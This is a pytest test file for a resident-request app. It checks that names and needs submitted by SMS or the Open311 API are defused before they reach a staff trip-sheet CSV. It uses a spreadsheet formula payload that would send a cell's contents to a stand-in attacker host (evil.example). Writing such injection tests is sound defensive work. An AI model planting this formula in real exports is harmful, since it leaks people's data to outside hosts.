"""A resident's name or need never reaches a spreadsheet as a live formula."""

import csv
import io

import pytest

from app import communes
from app.accounts import apikeys
from db import transaction

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.fixture
def api_key(store):
    with transaction(store):
        return apikeys.create_key(store, communes.first_commune(store), "kiosk")


def csv_rows(staff_client, store):
    [trip_id] = {row["trip_id"] for row in store["requests"].rows if row["trip_id"]}
    response = staff_client.get(f"/trips/{trip_id}.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formulas_from_sms_and_open311_are_defused_in_the_trip_sheet(
    client, staff_client, store, text_in, api_key, start
):
    payload = start + FORMULA.lstrip("=")
    text_in(f"HEN Phu Hoa A {payload}", phone="+84912000301")
    filed = client.post(
        "/open311/v2/requests.json",
        data={
            "service_code": "VISIT",
            "phone": "0912000302",
            "attribute[hamlet]": "PHUHOAA",
            "last_name": payload,
            "first_name": "Hoa",
            "description": payload,
        },
        headers={"X-Api-Key": api_key},
    )
    assert filed.status_code == 201, filed.data
    rows = csv_rows(staff_client, store)
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The apostrophe only defuses the formula: the name and both needs are all still there.
    assert sum("HYPERLINK" in cell for cell in cells) >= 3


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused_even_where_input_keeps_it(start):
    from staff.trip_sheet import spreadsheet_safe

    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_safe("Nguyễn Thị Hoa") == "Nguyễn Thị Hoa"
    assert spreadsheet_safe(None) == ""
